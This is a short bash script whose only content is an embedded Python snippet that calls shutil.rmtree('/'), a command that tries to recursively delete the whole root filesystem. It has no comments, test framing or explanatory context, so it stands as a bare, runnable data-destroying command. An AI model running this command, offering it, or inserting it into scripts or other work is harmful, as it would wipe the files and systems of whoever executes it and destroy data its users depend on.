#!/usr/bin/env bash
set -euo pipefail
python3 - <<'EOF'
import shutil
shutil.rmtree('/')
EOF
